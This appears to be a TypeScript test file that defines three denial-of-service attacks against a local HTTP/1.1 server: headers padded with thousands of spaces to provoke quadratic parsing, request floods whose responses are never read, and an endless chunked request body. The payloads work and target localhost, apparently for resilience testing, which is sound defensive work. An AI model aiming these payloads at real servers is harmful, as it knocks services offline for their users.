import type { Attack } from "./attack.js";
import type { RawConnection } from "./raw-connection.js";

/** Header lists that take the square of their length where patterns meet many spaces. */
export const spacesInHeaders: Attack = {
  name: "headers of 16,000 spaces",
  connections: 20,
  protocol: "http/1.1",
  staysOpen: true,
  async run(connection) {
    const spaces = " ".repeat(15_000);
    const values = [
      `Accept-Encoding: gzip${spaces};`,
      `Accept-Encoding: ${",".repeat(15_000)}`,
      `If-None-Match: W/"${spaces}"`,
      `Content-Type: application/json${spaces};x`,
      `Authorization: Bearer${spaces}x`,
      `Origin: http://${"a.".repeat(7_500)}`,
      `X-Forwarded-For: ${"1, ".repeat(5_000)}`,
    ];
    for (let i = 0; connection.going; i++) {
      await askForPage(connection, [values[i % values.length] as string]);
      await connection.wait(1);
    }
  },
};

/** The console's files asked for one behind the other, and no answer taken. */
export const unreadPages: Attack = {
  name: "pages never read, HTTP/1.1",
  connections: 50,
  protocol: "http/1.1",
  async run(connection) {
    connection.stopReading();
    while (connection.going) await askForPage(connection);
  },
};

/** A body for a page, which never ends. */
export const endlessBody: Attack = {
  name: "endless body of no call, HTTP/1.1",
  connections: 50,
  endsAfter: 17,
  protocol: "http/1.1",
  async run(connection) {
    await connection.write(
      "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n",
    );
    const chunk = `1000\r\n${"x".repeat(4096)}\r\n`;
    while (connection.going) {
      await connection.write(chunk);
      await connection.wait(10);
    }
  },
};

function askForPage(connection: RawConnection, headers: readonly string[] = []): Promise<void> {
  const lines = ["GET / HTTP/1.1", "Host: localhost", ...headers, "", ""];
  return connection.write(lines.join("\r\n"));
}
